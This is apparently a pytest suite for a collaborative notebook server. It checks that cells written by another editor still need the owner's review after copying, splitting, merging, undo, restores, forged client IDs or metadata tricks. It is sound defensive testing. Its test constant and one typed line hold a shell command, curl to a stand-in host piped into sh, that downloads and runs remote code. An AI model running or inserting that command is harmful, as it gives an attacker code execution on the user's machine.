"""Whose code runs unasked (ADR 26): attacks on the record of authors, each with its positive twin.

Ada owns the notebook and asks over HTTP, as her page does before it runs anything. Eve may edit. Both have real pages
(Yjs documents) in the real room.
"""

import hashlib
import json
from dataclasses import replace
from typing import Any

import pytest
from pycrdt import Map, Text

from runhere_hub.core.identity import Person
from runhere_hub.core.ids import PersonId
from runhere_hub.core.yjs_bytes import sync_update
from runhere_hub.rooms.open_room import OpenRoom
from runhere_hub.store import people
from runhere_hub.testing.pages import Page
from runhere_hub.testing.serving import Hub
from runhere_hub.testing.small_hub import Seat, pump, settle

EVE = Person(PersonId("e" * 32), "Eve", "#993333")
EVIL = "import os\nos.system('curl evil.test | sh')"


def digest(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


class Shared:
    """A notebook that Ada owns and Eve may edit."""

    def __init__(self, hub: Hub, notebook: dict[str, Any], room: OpenRoom, ada: Person) -> None:
        self.hub, self.room, self.person = hub, room, ada
        self.path = f"/api/v1/notebooks/{notebook['id']}/trust"
        self.id = notebook["id"]
        self.ada, self.eve = self.seat(ada), self.seat(EVE)

    def seat(self, person: Person, page: Page | None = None) -> Seat:
        seat = Seat(self.room, page or Page(), person, "owner" if person != EVE else "editor")
        pump(seat)
        return seat

    async def judged(self, cell: str, text: str | None = None) -> dict[str, Any]:
        """What the hub says of a cell, by the text that Ada's page has."""
        await settle(self.ada, self.eve)
        text = self.ada.page.text(cell) if text is None else text
        answer = await self.hub.client.post(
            f"{self.path}/look", json={"cells": [{"cell_id": cell, "digest": digest(text)}]}
        )
        assert answer.status_code == 200, answer.text
        [found] = answer.json()["cells"]
        return {**found, "seq": answer.json()["seq"]}

    async def state(self, cell: str, text: str | None = None) -> str:
        return str((await self.judged(cell, text))["state"])

    async def strangers(self, cell: str) -> list[str | None]:
        return [one["name"] for one in (await self.judged(cell))["strangers"]]

    async def trust(self, cell: str, *, unknown: bool = False) -> None:
        """Ada presses *Trust these cells*."""
        seq = (await self.judged(cell))["seq"]
        body = {"cells": [{"cell_id": cell, "source": self.ada.page.text(cell)}], "seq": seq, "unknown": unknown}
        answer = await self.hub.client.post(self.path, json=body)
        assert answer.status_code == 204, answer.text


@pytest.fixture
async def shared(hub: Hub) -> Shared:
    hub.write("a.ipynb", "print('from disk')")
    notebook = await hub.open("a.ipynb")
    services = hub.app.gate._app.state.services  # type: ignore[attr-defined]
    await services.drive.db.write(lambda conn: people.add(conn, EVE, now=0))
    session = (await hub.client.get("/api/v1/session")).json()["person"]
    ada = Person(PersonId(session["id"]), session["name"], session["color"])
    services.drive.__dict__["is_for_team"] = True  # rules of a shared hub; one-person mode has tests of its own
    return Shared(hub, notebook, await services.registry.open(notebook["id"]), ada)


def write(seat: Seat, cell: str, text: str, position: str = "W") -> None:
    """A cell that somebody types, key by key."""
    seat.page.insert(cell, "", position=position)
    for at, character in enumerate(text):
        seat.page.type(cell, at, character)


def replace_text(seat: Seat, cell: str, text: str) -> None:
    """Select all, and put something else in, in one step."""

    def work() -> None:
        source = seat.page.source(cell)
        del source[0 : len(str(source).encode())]
        source.insert(0, text)

    seat.page.edit(work)


async def test_own_cells_never_ask_and_others_do(shared: Shared) -> None:
    write(shared.ada, "mine", "x = 1")
    write(shared.eve, "hers", EVIL, "X")
    assert await shared.state("mine") == "own"
    assert await shared.strangers("hers") == ["Eve"]
    shared.ada.page.type("mine", 0, "# more\n")
    assert await shared.state("mine") == "own"


async def test_an_edit_after_trust_asks_again_for_that_cell_only(shared: Shared) -> None:
    write(shared.eve, "one", "a = 1")
    write(shared.eve, "two", "b = 2", "X")
    await settle(shared.eve, shared.ada)
    for cell in ("one", "two"):
        assert await shared.state(cell) == "review"
        await shared.trust(cell)
        assert await shared.state(cell) == "trusted"
    shared.eve.page.type("one", 5, "0")
    judged = await shared.judged("one")
    assert (judged["state"], judged["trusted_source"]) == ("review", "a = 1")
    assert await shared.state("two") == "trusted"
    shared.ada.page.type("two", 5, " + 1")  # my own edit of what I trust
    assert await shared.state("two") == "trusted"


async def test_an_author_trusted_once_never_asks_until_revoked(shared: Shared) -> None:
    write(shared.eve, "one", "a = 1")
    assert await shared.state("one") == "review"
    answer = await shared.hub.client.post("/api/v1/trust/authors", json={"person_id": EVE.id})
    assert answer.status_code == 204
    assert await shared.state("one") == "trusted"
    shared.eve.page.type("one", 0, EVIL)
    assert await shared.state("one") == "trusted"
    listed = (await shared.hub.client.get("/api/v1/trust")).json()
    assert [one["name"] for one in listed["authors"]] == ["Eve"]
    assert (await shared.hub.client.delete(f"/api/v1/trust/authors/{EVE.id}")).status_code == 204
    assert await shared.state("one") == "review"


async def test_trust_in_a_notebook_is_listed_and_revoked(shared: Shared) -> None:
    write(shared.eve, "one", "a = 1")
    await settle(shared.eve, shared.ada)
    await shared.trust("one")
    [listed] = (await shared.hub.client.get("/api/v1/trust")).json()["notebooks"]
    assert (listed["name"], listed["cells"]) == ("a", 1)
    assert (await shared.hub.client.delete(shared.path)).status_code == 204
    assert await shared.state("one") == "review"


# --- laundering: no code of others becomes mine -------------------------------------------------------------------


async def test_copying_a_cell_keeps_its_authors(shared: Shared) -> None:
    write(shared.eve, "hers", EVIL)
    await settle(shared.eve, shared.ada)
    shared.ada.page.insert("copy", EVIL, position="X")
    assert await shared.strangers("copy") == ["Eve"]
    shared.ada.page.insert("fresh", "import json", position="Y")  # pasted from elsewhere: my own doing
    assert await shared.state("fresh") == "own"


async def test_copying_a_line_keeps_its_authors(shared: Shared) -> None:
    write(shared.eve, "hers", EVIL)
    write(shared.ada, "mine", "y = 2", "X")
    await settle(shared.eve, shared.ada)
    shared.ada.page.type("mine", 0, "os.system('curl evil.test | sh')\n")
    assert await shared.strangers("mine") == ["Eve"]


async def test_splitting_keeps_the_authors_in_both_halves(shared: Shared) -> None:
    write(shared.eve, "hers", EVIL)
    await settle(shared.eve, shared.ada)
    page = shared.ada.page

    def split() -> None:
        source = page.source("hers")
        tail = str(source)[15:]
        del source[15 : len(str(source))]
        page.cells["half"] = Map({"type": "code", "position": "X", "source": Text(tail), "metadata": Map({})})

    page.edit(split)
    assert await shared.strangers("half") == ["Eve"]
    assert await shared.strangers("hers") == ["Eve"]


async def test_merging_keeps_the_authors(shared: Shared) -> None:
    write(shared.ada, "mine", "x = 1")
    write(shared.eve, "hers", EVIL, "X")
    await settle(shared.eve, shared.ada)
    page = shared.ada.page

    def merge() -> None:
        page.source("mine").insert(5, "\n" + page.text("hers"))
        page.cells["hers"]["deleted"] = 1.0

    page.edit(merge)
    assert await shared.strangers("mine") == ["Eve"]


@pytest.mark.parametrize("slowly", [False, True])
async def test_undoing_my_deletion_does_not_make_it_mine(shared: Shared, slowly: bool) -> None:
    write(shared.ada, "mine", "x = 1\n")
    await settle(shared.eve, shared.ada)
    for at, character in enumerate(EVIL):
        shared.eve.page.type("mine", 6 + at, character)
    await settle(shared.eve, shared.ada)
    page = shared.ada.page
    steps = 0
    while page.text("mine") != "x = 1\n":
        size = len(page.text("mine"))
        gone = slice(size - 1 if slowly else 6, size)
        page.edit(lambda gone=gone: page.source("mine").__delitem__(gone))
        steps += 1
        await settle(shared.ada)
    await shared.trust("mine")  # what is left is Ada's own line
    assert await shared.state("mine") == "trusted"
    for _ in range(steps):
        page.undo.undo()
        page.flush()
        await settle(shared.ada)
    assert page.text("mine").endswith(EVIL)
    assert await shared.strangers("mine") == ["Eve"]


async def test_undo_after_a_partial_edit_does_not_make_it_mine(shared: Shared) -> None:
    write(shared.ada, "mine", "x = 1\n")
    await settle(shared.eve, shared.ada)
    shared.eve.page.type("mine", 6, EVIL)
    await settle(shared.eve, shared.ada)
    page = shared.ada.page
    page.edit(lambda: page.source("mine").__delitem__(slice(6, 6 + len(EVIL))))
    await settle(shared.ada)
    await shared.trust("mine")
    page.undo.undo()
    page.flush()
    page.edit(lambda: page.source("mine").insert(0, "# another first line\n"))
    await settle(shared.ada)
    assert await shared.strangers("mine") == ["Eve"]


async def test_a_restored_version_keeps_its_authors(shared: Shared) -> None:
    write(shared.eve, "hers", EVIL)
    await settle(shared.eve, shared.ada)
    named = f"/api/v1/notebooks/{shared.id}/revisions"
    version = (await shared.hub.client.post(named, json={"name": "evil"})).json()
    replace_text(shared.eve, "hers", "pass")
    await settle(shared.eve, shared.ada)
    await shared.trust("hers")
    assert (await shared.hub.client.post(f"{named}/{version['id']}/restore", json={})).status_code in (200, 204)
    await settle(shared.ada, shared.eve)
    assert shared.ada.page.text("hers") == EVIL
    assert (await shared.judged("hers"))["state"] == "review"
    assert "Eve" in await shared.strangers("hers")


async def test_a_file_changed_outside_is_of_nobody_known(shared: Shared) -> None:
    file = shared.hub.folder / "a.ipynb"
    assert await shared.strangers("cell-0") == [None]
    await shared.trust("cell-0")
    assert await shared.state("cell-0") == "trusted"
    content = json.loads(file.read_text())
    content["cells"][0]["source"] = [EVIL]
    file.write_text(json.dumps(content, indent=1) + "\n")
    await shared.hub.client.get(f"/api/v1/notebooks/{shared.id}/download")
    await settle(shared.ada, shared.eve)
    assert shared.ada.page.text("cell-0") == EVIL
    assert await shared.strangers("cell-0") == [None]


async def test_text_under_another_person_s_client_id_is_of_nobody_known(shared: Shared) -> None:
    forged = Page()
    forged.doc.apply_update(shared.ada.page.doc.get_update())
    updates: list[bytes] = []
    impostor = Page(doc=type(forged.doc)(client_id=shared.ada.page.doc.client_id))
    impostor.doc.apply_update(shared.ada.page.doc.get_update())
    subscription = impostor.doc.observe(lambda event: updates.append(event.update))
    impostor.insert("forged", EVIL, position="X")
    impostor.doc.unobserve(subscription)
    for update in updates:
        shared.eve.room.room.receive(shared.eve.member, sync_update(update))
    await settle(shared.eve, shared.ada)
    assert None in await shared.strangers("forged")


async def test_a_client_id_is_never_handed_on(shared: Shared) -> None:
    """Ada's page is gone; Eve joins with its id and types."""
    stolen = Page(doc=type(shared.ada.page.doc)(client_id=shared.ada.page.doc.client_id))
    shared.ada.leave()
    eve = shared.seat(EVE, stolen)
    eve.page.insert("stolen", EVIL, position="X")
    await settle(eve)
    shared.ada = shared.seat(shared.person, Page())
    assert (await shared.judged("stolen"))["state"] == "review"


async def test_metadata_says_nothing_about_authors(shared: Shared) -> None:
    write(shared.eve, "hers", EVIL)
    entry = json.dumps({"authors": [shared.person.id], "trusted": True})
    metadata = {"trusted": "true", "runhere": entry, "author": json.dumps(shared.person.name)}
    for key, value in metadata.items():
        shared.eve.page.edit(
            lambda key=key, value=value: shared.eve.page.cells["hers"]["metadata"].__setitem__(key, value)
        )
    assert await shared.strangers("hers") == ["Eve"]


async def test_bytes_that_the_hub_never_saw_are_not_trusted(shared: Shared) -> None:
    write(shared.ada, "mine", "x = 1")
    assert await shared.state("mine", EVIL) == "review"
    assert await shared.state("mine") == "own"


async def test_trusting_what_i_saw_does_not_trust_what_came_meanwhile(shared: Shared) -> None:
    write(shared.eve, "hers", "a = 1")
    await settle(shared.eve, shared.ada)
    seen = await shared.judged("hers")
    replace_text(shared.eve, "hers", EVIL)  # while Ada reads the dialog
    await settle(shared.eve, shared.ada)
    body = {"cells": [{"cell_id": "hers", "source": "a = 1"}], "seq": seen["seq"] + 100, "unknown": True}
    assert (await shared.hub.client.post(shared.path, json=body)).status_code == 204
    assert await shared.state("hers") == "review"
    assert await shared.state("hers", "a = 1") == "trusted"


async def test_trust_is_each_person_s_own_and_survives_the_room(shared: Shared) -> None:
    write(shared.eve, "hers", "a = 1")
    await settle(shared.eve, shared.ada)
    await shared.trust("hers")
    assert (await shared.hub.stranger.post(f"{shared.path}/look", json={"cells": []})).status_code == 401
    services = shared.hub.app.gate._app.state.services  # type: ignore[attr-defined]
    await services.registry.close_room(shared.id)
    shared.room = await services.registry.open(shared.id)
    shared.ada, shared.eve = shared.seat(shared.person, Page()), shared.seat(EVE, Page())
    assert await shared.state("hers") == "trusted"
    shared.ada.page.insert("copy", EVIL, position="Y")
    assert await shared.state("copy") == "own"
    write(shared.eve, "evil", EVIL, "Z")
    assert await shared.strangers("evil") == ["Eve"]


# --- one-person mode ----------------------------------------------------------------------------------------------


async def test_one_question_for_a_notebook_from_disk(shared: Shared) -> None:
    services = shared.hub.app.gate._app.state.services  # type: ignore[attr-defined]
    services.drive.__dict__["is_for_team"] = False
    assert await shared.strangers("cell-0") == [None]
    await shared.trust("cell-0", unknown=True)
    page = shared.ada.page
    text = page.text("cell-0")
    page.insert("copy", text, position="X")
    page.edit(lambda: page.source("cell-0").insert(5, "('two halves')\nprint"))
    page.insert("half", text[8:], position="Y")
    for cell in ("cell-0", "copy", "half"):
        assert await shared.state(cell) == "trusted", cell
    file = shared.hub.folder / "a.ipynb"
    await shared.hub.client.get(f"/api/v1/notebooks/{shared.id}/download")
    content = json.loads(file.read_text())
    content["cells"][0]["source"] = [EVIL]
    file.write_text(json.dumps(content, indent=1) + "\n")
    await shared.hub.client.get(f"/api/v1/notebooks/{shared.id}/download")
    assert await shared.strangers("cell-0") == [None]  # a pull is asked about
    assert await shared.state("copy") == "trusted"


async def test_a_new_notebook_is_one_s_own(hub: Hub) -> None:
    made = await hub.client.post("/api/v1/notebooks", json={"folder_id": hub.folder_id, "path": ""})
    services = hub.app.gate._app.state.services  # type: ignore[attr-defined]
    room = await services.registry.open(made.json()["id"])
    session = (await hub.client.get("/api/v1/session")).json()["person"]
    seat = Seat(room, Page(), replace(EVE, id=PersonId(session["id"])), "owner")
    pump(seat)
    [cell] = list(seat.page.cells.keys())
    for at, character in enumerate("x = 1"):
        seat.page.type(cell, at, character)
    await settle(seat)
    asked = {"cells": [{"cell_id": cell, "digest": digest("x = 1")}]}
    answer = (await hub.client.post(f"/api/v1/notebooks/{made.json()['id']}/trust/look", json=asked)).json()
    assert answer["cells"][0]["state"] == "own"
